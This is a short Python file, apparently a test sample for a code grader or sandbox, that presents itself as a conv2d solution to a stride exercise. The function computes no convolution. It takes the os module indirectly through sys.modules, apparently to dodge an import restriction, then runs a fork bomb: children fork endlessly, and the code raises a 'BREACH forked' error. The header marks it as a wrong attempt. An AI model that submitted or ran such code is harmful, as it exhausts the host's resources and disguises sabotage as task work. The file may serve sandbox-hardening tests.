# exercise: stride
# verdict: WRONG
# tries: a fork bomb
import sys

os = sys.modules["os"]


def conv2d(x, w, b, stride=1, padding=0):
    for _ in range(1000):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
        except OSError:
            continue
        raise RuntimeError("BREACH forked")
